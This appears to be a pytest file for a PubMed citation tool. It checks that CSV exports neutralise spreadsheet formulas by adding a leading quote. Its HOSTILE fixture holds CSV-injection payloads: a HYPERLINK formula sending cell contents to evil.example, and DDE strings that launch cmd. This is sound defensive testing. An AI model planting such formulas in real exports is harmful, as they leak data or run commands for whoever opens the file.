"""CSV outputs neutralise spreadsheet formulas (OWASP), all through pnet_pubmed.csvout."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from click.testing import CliRunner

from pnet_pubmed import csvout
from pnet_pubmed.cli import main
from pnet_pubmed.search.index import SearchIndex
from pnet_pubmed.store import Store
from pnet_pubmed.values import (
    AbstractSection,
    Article,
    Author,
    Citation,
    Keyword,
    Match,
    MeshHeading,
)

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(text):
    assert csvout.cell(text) == "'" + text


def test_numbers_stay_numbers_and_other_text_stays_as_it_is():
    assert csvout.cell(-1) == "-1"
    assert csvout.cell(-0.25) == "-0.25"
    assert csvout.cell(Decimal("-3.50")) == "-3.50"
    assert csvout.cell(0.123456, float_format=".2f") == "0.12"
    assert csvout.cell(None) == ""
    assert csvout.cell(True) == "True"
    # The type decides, not the look: text that reads as a negative number is still text.
    assert csvout.cell("-1 mg/kg") == "'-1 mg/kg"
    assert csvout.cell("-5") == "'-5"
    for safe in ("Öberg K", "a = b", "1-2", "pmid:123", ""):
        assert csvout.cell(safe) == safe


def test_the_document_round_trips_through_the_csv_module():
    text = csvout.write(["a", "b"], [['=1+1, "quoted"', 3], ["line\nbreak", "car\rriage"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b"], ["'=1+1, \"quoted\"", "3"], ["line\nbreak", "car\rriage"]]


# -- every CSV output of the command line --------------------------------------------------------

EVIL_ARTICLE = Article(
    pmid="99990001",
    title=HOSTILE["equals"],
    abstract=(AbstractSection(HOSTILE["plus"]),),
    journal_title=HOSTILE["at"],
    iso_abbreviation="-Evil J",
    year=2015,
    volume="-3",
    authors=(Author(last_name="=Mallory", initials="M"),),
    mesh=(MeshHeading("=Injected Descriptor", "D999901", True),),
    keywords=(Keyword("hyperlink"),),
)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'hostile.sqlite'}"
    with Store(url, index=SearchIndex()) as store:
        store.upgrade()
        store.save_articles([EVIL_ARTICLE])
        store.save_citations("evil", [
            Citation(key="1", raw=HOSTILE["minus"], position=1),
            Citation(key="@2", raw=HOSTILE["tab"], position=2),
        ])
        store.save_matches("evil", [
            Match("1", "matched", EVIL_ARTICLE.pmid, method="ecitmatch", score=0.5),
            Match("@2", "not_found", reason=HOSTILE["cr"]),
        ])
    return url


def csv_of(url: str, *args: str) -> list[list[str]]:
    result = CliRunner().invoke(main, ["--db", url, *args])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def assert_no_formula(rows: list[list[str]], numeric: set[int] = frozenset()) -> None:
    for row in rows:
        for i, value in enumerate(row):
            if i not in numeric:
                assert not value.startswith(csvout.FORMULA_START), (value, row)


@pytest.mark.parametrize("args", [
    ("refs", "--format", "csv"),
    ("export", "--format", "csv"),
    ("search", "hyperlink", "--format", "csv"),
    ("mesh", "--format", "csv"),
    ("sql", "SELECT * FROM reference_links", "--format", "csv"),
    ("sql", "SELECT * FROM articles", "--format", "csv"),
], ids=lambda a: " ".join(a[:2]))
def test_no_csv_output_writes_a_formula(hostile_db, args):
    rows = csv_of(hostile_db, *args)
    assert len(rows) >= 2
    assert_no_formula(rows)
    cells = {c for row in rows for c in row}
    assert cells & {"'" + v for v in HOSTILE.values()} | {"'=Injected Descriptor"}


def test_what_the_cells_say(hostile_db):
    table = csv_of(hostile_db, "refs", "--format", "csv")
    refs = {r["key"]: r for r in (dict(zip(table[0], row, strict=True)) for row in table[1:])}
    assert refs["1"]["raw"] == "'" + HOSTILE["minus"]
    assert refs["'@2"]["reason"] == "'" + HOSTILE["cr"]  # the key too: it is text
    export = csv_of(hostile_db, "export", "--format", "csv")
    record = dict(zip(export[0], export[1], strict=True))
    assert record["title"] == "'" + HOSTILE["equals"]
    assert record["abstract"] == "'" + HOSTILE["plus"]
    assert record["journal"] == "'" + HOSTILE["at"]
    assert record["authors"] == "'=Mallory M" and record["volume"] == "'-3"
    assert record["year"] == "2015"


def test_sql_numbers_are_not_quoted_but_text_is(hostile_db):
    rows = csv_of(hostile_db, "sql",
                  "SELECT -1 AS n, -0.5 AS f, '-1 mg' AS t, score - 1 AS s FROM refs "
                  "WHERE key = '1'", "--format", "csv")
    assert rows == [["n", "f", "t", "s"], ["-1", "-0.5", "'-1 mg", "-0.5"]]
